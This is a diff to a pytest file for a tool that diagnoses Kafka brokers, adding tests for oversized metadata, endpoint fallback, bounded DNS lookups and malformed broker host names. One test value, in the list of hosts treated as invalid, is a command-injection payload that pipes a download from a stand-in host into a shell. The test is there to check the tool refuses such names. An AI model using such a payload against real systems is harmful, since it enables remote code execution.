@@ -3,22 +3,39 @@
 from __future__ import annotations
 
 import json
+import socket
 import struct
+import threading
+from collections import Counter
 from collections.abc import Callable
+from dataclasses import replace
+from ipaddress import ip_address
+from typing import Any
 
 import pytest
 import trio
 
-from mtlskit.doctor.case import Identified
+from mtlskit.doctor.case import Case, Identified
 from mtlskit.doctor.checks.kafka import look_inside_kafka
-from mtlskit.doctor.finding import Verdict
+from mtlskit.doctor.finding import Finding, Verdict
 from mtlskit.doctor.kafka.members import MOST_VISITED
+from mtlskit.doctor.kafka.session import AT_ONCE, read_aside
 from mtlskit.errors import Code
 from mtlskit.net.identity import load_snapshot
+from mtlskit.wire.kafka.cluster import MOST_MEMBERS, MOST_PARTITIONS
 from tests.doctor.catalogue.kafka import gathered
 from tests.services.pki import Pki
 from tests.support.kafka_liar import API_VERSIONS, HANG_UP, METADATA, Body, answer_to, metadata, text
 from tests.support.kafka_looks import broker, look, looked, named
+
+real_look_up = socket.getaddrinfo
+
+
+def only_addresses(host: str, port: int, family: int = 0, type: int = 0, proto: int = 0, flags: int = 0) -> list[Any]:  # noqa: A002
+    """In place of getaddrinfo(3), where no name is to be looked up."""
+    ip_address(host)
+    return [*real_look_up(host, port, family, type, proto, flags)]
+
 
 NO_GROUPS = answer_to(16, struct.pack("!hi", 0, 0))
 
@@ -126,6 +143,120 @@ def test_more_topics_than_are_read(pki: Pki) -> None:
     assert finding.because == "the list of topics is above 100,000 partitions or 16 MiB"
 
 
+def test_more_small_topics_than_are_read(pki: Pki) -> None:
+    """Eleven bytes each: their number is refused, and none of them is kept."""
+    many = struct.pack("!i", MOST_PARTITIONS + 1) + topic("ab") * (MOST_PARTITIONS + 1)
+
+    def own(ports: list[int]) -> Body:
+        def body(key: int, request: bytes) -> bytes | None:
+            whole = key == METADATA and request.endswith(b"\xff\xff\xff\xff")
+            return metadata(lambda: [(1, "127.0.0.1", ports[0])], topics=many if whole else topics())(key, request)
+
+        return body
+
+    findings = looked(pki, NO_GROUPS, own=own)
+    assert {finding.verdict for finding in findings} == {Verdict.PASS, Verdict.SKIPPED}
+    [finding] = named(findings, "kafka.topics")
+    assert finding.because == "the list of topics is above 100,000 partitions or 16 MiB"
+
+
+def test_more_brokers_than_a_cluster_has(pki: Pki) -> None:
+    crowd = metadata(lambda: [(node, "b", 1) for node in range(MOST_MEMBERS + 1)])
+    findings = looked(pki, crowd)
+    assert findings[0].code is Code.KAFKA_RESPONSE_TOO_LARGE
+
+
+def test_one_endpoint_is_asked_for_all_topics(pki: Pki) -> None:
+    """And the next one only if the first has nothing to say."""
+    whole: list[str] = []
+
+    def watching(name: str, *, hangs_up: bool = False) -> Body:
+        def body(key: int, request: bytes) -> bytes | None:
+            if key == METADATA and request.endswith(b"\xff\xff\xff\xff"):
+                whole.append(name)
+                return HANG_UP if hangs_up else None
+            return None
+
+        return body
+
+    with (
+        broker(pki, watching("a", hangs_up=True), NO_GROUPS, own=alone()) as first,
+        broker(pki, watching("b"), NO_GROUPS, own=alone()) as second,
+        broker(pki, watching("c"), NO_GROUPS, own=alone()) as third,
+    ):
+        findings = look(gathered(pki, tuple(f"127.0.0.1:{port}" for port in (first, second, third))))
+    assert whole == ["a", "b"]
+    [trouble] = [each for each in findings if each.verdict in (Verdict.FAIL, Verdict.WARN)]
+    assert (trouble.code, trouble.about) == (Code.UPSTREAM_CLOSED, f"127.0.0.1:{first}")
+
+
+def test_names_of_topics_and_groups_are_counted_and_few_are_kept(pki: Pki) -> None:
+    names = [f"{'ours' if number % 2 else 'theirs'}.{number:03}" for number in range(200)]
+    groups = answer_to(16, struct.pack("!hi", 0, 200) + b"".join(text(name) + text("consumer") for name in names))
+    own = alone(topics=topics(*(topic(name, 1) for name in names)))
+    findings = looked(pki, groups, own=own, prefix="ours.")
+    for check in ("kafka.topics", "kafka.groups"):
+        [finding] = named(findings, check)
+        assert (finding.facts["count"], finding.facts["with_prefix"]) == (200, 100)
+        assert finding.facts["names"] == sorted(names)[:50]
+
+
+def test_more_groups_than_are_read(pki: Pki) -> None:
+    """That is no fault of the broker's."""
+    findings = looked(pki, answer_to(16, struct.pack("!hi", 0, 100_001) + bytes(400_004)), own=alone())
+    assert {finding.verdict for finding in findings} == {Verdict.PASS, Verdict.SKIPPED}
+
+
+def test_names_are_looked_up_by_few_threads(pki: Pki, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Whatever a cluster names: no more at once, and none of those that all of the process shares."""
+    held = threading.Event()
+    asked: Counter[str] = Counter()
+
+    def slow(host: str, port: int, family: int = 0, type: int = 0, proto: int = 0, flags: int = 0) -> list[Any]:  # noqa: A002
+        if flags & socket.AI_NUMERICHOST or not host.startswith("slow-"):
+            return [*real_look_up(host, port, family, type, proto, flags)]
+        asked[host] += 1
+        held.wait()
+        raise socket.gaierror(socket.EAI_AGAIN, "no answer")
+
+    monkeypatch.setattr(socket, "getaddrinfo", slow)
+    left: list[int] = []
+
+    async def watched(case: Case, identified: Identified) -> tuple[Finding, ...]:
+        found = await look_inside_kafka(case, case.tunnel.upstream, identified, "")
+        left.append(trio.to_thread.current_default_thread_limiter().borrowed_tokens)
+        return found
+
+    cluster = [(node, f"slow-{node}.example", 9092) for node in range(60)]
+    with broker(pki, NO_GROUPS, metadata(lambda: cluster)) as port:
+        [case] = gathered(pki, f"127.0.0.1:{port}").cases
+        assert case.identity is not None
+        snapshot = load_snapshot(case.identity, verify=case.tunnel.verify)
+        case = replace(case, means=replace(case.means, step=0.5))
+        findings = trio.run(watched, case, Identified(snapshot=snapshot))
+        held.set()
+    assert len(asked) == AT_ONCE
+    assert left == [0]
+    visits = named(findings, "kafka.broker")
+    assert {finding.code for finding in visits[:-1]} == {Code.KAFKA_ODD_ADDRESS}
+    assert (visits[-1].because, visits[-1].about) == (
+        "the others took all the time",
+        f"{60 - len(visits[:-1])} more brokers",
+    )
+
+
+async def test_reading_a_long_answer_can_be_stopped() -> None:
+    held = threading.Event()
+
+    def read(_answer: bytes) -> None:
+        held.wait()
+
+    with trio.move_on_after(0.01) as scope:
+        await read_aside(read, b"")
+    held.set()
+    assert scope.cancelled_caught
+
+
 def test_more_brokers_than_are_visited(pki: Pki) -> None:
     named_brokers = [(node, f"host-{node}", 0) for node in range(MOST_VISITED + 3)]
     visits = named(looked(pki, metadata(lambda: named_brokers)), "kafka.broker")
@@ -148,10 +279,28 @@ def test_a_wildcard_that_leads_there_by_chance(pki: Pki) -> None:
     assert (finding.verdict, finding.code) == (Verdict.WARN, Code.KAFKA_ODD_ADDRESS)
 
 
-@pytest.mark.parametrize("host", ["", "a b", "caf\u00e9", "a\x1b[31m", "h" * 300])
-def test_hosts_that_are_none(pki: Pki, host: str) -> None:
+HOSTS_THAT_ARE_NONE = (
+    "",
+    "a b",
+    "caf\u00e9",
+    "a\x1b[31m",
+    "h" * 300,
+    "x`;curl${IFS}evil.example|sh;`",
+    "-x",
+    "a'b",
+    "[::1]",
+)
+
+
+@pytest.mark.parametrize("host", HOSTS_THAT_ARE_NONE)
+def test_hosts_that_are_none(pki: Pki, host: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    """They are neither looked up nor put into a command."""
+    monkeypatch.setattr(socket, "getaddrinfo", only_addresses)
     [finding] = named(looked(pki, metadata(lambda: [(1, host, 9092)])), "kafka.broker")
     assert finding.code is Code.KAFKA_ODD_ADDRESS
+    assert "that is no address" in finding.seen
+    assert not finding.commands
+    assert host not in finding.hint or not host
     assert finding.seen.isprintable()
     assert finding.about.isprintable()
     assert len(finding.seen) < 1000
